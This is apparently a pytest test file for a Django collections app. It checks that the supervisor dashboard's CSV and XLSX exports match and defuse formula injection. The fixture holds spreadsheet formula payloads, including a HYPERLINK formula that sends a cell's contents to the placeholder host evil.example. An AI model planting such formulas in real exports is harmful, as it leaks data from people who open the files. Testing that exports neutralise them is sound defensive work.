"""Dashboard exports: every table as CSV (UTF-8 with BOM) and XLSX, with no cell that runs as a formula."""
import csv
import datetime as dt
import io
from decimal import Decimal as D

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from collections_app import models as m
from tests import factories as f

pytestmark = pytest.mark.django_db
TABLES = ["summary", "recovery", "aging", "roll", "sla", "league"]
LINK = '=HYPERLINK("http://evil.example/?d="&B2,"details")'


@pytest.fixture
def book(lender, team, collector):
    """A case outside the SLA whose borrower, team and collector names are formula payloads."""
    team.name = "=1+1"
    team.save()
    collector.username = "@SUM(1)"
    collector.save()
    borrower = f.BorrowerFactory(lender=lender, name=LINK)
    case = f.CaseFactory(lender=lender, borrower=borrower, assigned_to=collector, team=team, bucket="M1",
                         overdue_amount=D("1050.00"))
    m.CollectionCase.objects.filter(pk=case.pk).update(first_contact_due_at=timezone.now() - dt.timedelta(hours=3))
    loan = f.LoanFactory(lender=lender, borrower=borrower, case=case)
    today = timezone.localdate()
    f.InstallmentFactory(loan=loan, seq=1, due_date=today - dt.timedelta(days=40), principal_due=D("1350.00"),
                         interest_due=D("0"))
    f.PaymentFactory(loan=loan, paid_on=today, amount=D("300.00"))
    m.BucketHistory.objects.create(loan=loan, lender=lender, on_date=today - dt.timedelta(days=9), from_bucket="M0",
                                   to_bucket="M1", dpd=31)
    return case


def export(client, table, fmt):
    return client.get(reverse("supervisor_dashboard"), {"export": fmt, "table": table})


def csv_rows(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response):
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows())


@pytest.mark.parametrize("table", TABLES)
def test_every_table_exports_as_xlsx_with_the_csv_figures(client, supervisor, book, table):
    client.force_login(supervisor)
    as_csv = csv_rows(export(client, table, "csv"))
    response = export(client, table, "xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(f'attachment; filename="{"roll-rates" if table == "roll" else table}-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    cells = xlsx_rows(response)
    assert len(cells) == len(as_csv) >= 2
    assert [c.value for c in cells[0]] == as_csv[0]
    for xrow, crow in zip(cells[1:], as_csv[1:], strict=True):
        for cell, text in zip(xrow, crow, strict=True):
            if cell.data_type == "n" and cell.value is not None:
                assert D(text) == D(str(cell.value))  # numbers are numeric cells with the CSV's value
            else:
                assert (cell.value or "") == text
    assert not any(c.data_type == "f" for row in cells for c in row)


def test_money_is_a_number_with_two_decimals_in_xlsx(client, supervisor, book):
    client.force_login(supervisor)
    cells = xlsx_rows(export(client, "aging", "xlsx"))
    bucket, count, _cases, overdue, _outstanding = cells[1]
    assert bucket.value == "M1" and count.value == 1 and count.data_type == "n"
    assert overdue.value == 1050 and overdue.data_type == "n" and overdue.number_format == "0.00"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_names_holding_formulas_are_neutralised(client, supervisor, book, fmt):
    client.force_login(supervisor)
    for table, expected in (("sla", ["'" + LINK, "'@SUM(1)", "'=1+1"]), ("league", ["'@SUM(1)", "'=1+1"])):
        response = export(client, table, fmt)
        texts = [c for row in csv_rows(response) for c in row] if fmt == "csv" else [
            c.value for row in xlsx_rows(response) for c in row]
        for value in expected:
            assert value in texts
        assert not any(isinstance(t, str) and t[:1] in ("=", "+", "@") for t in texts)


def test_the_page_links_both_formats_for_every_table(client, supervisor):
    client.force_login(supervisor)
    body = client.get(reverse("supervisor_dashboard")).content.decode()
    for table in TABLES:
        assert f"export=csv&amp;table={table}" in body and f"export=xlsx&amp;table={table}" in body


def test_unknown_format_shows_the_page_with_a_message(client, supervisor):
    client.force_login(supervisor)
    response = client.get(reverse("supervisor_dashboard"), {"export": "pdf", "table": "aging"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
    assert [str(x) for x in response.context["messages"]] == ["Unknown export format: choose CSV or XLSX."]
